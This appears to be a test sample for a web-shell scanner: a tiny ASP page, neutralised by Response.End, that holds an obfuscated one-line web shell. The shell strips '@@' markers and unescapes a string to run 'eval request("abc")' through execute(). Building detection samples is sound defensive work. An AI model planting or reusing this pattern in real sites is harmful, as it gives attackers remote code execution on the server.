<% ' shellsweep test sample: inert, never functional
Response.End %>
<%
a = "eva@@l%20req@@uest%28%22abc%22%29"
b = Replace(a, "@@", "")
execute(unescape(b))
%>
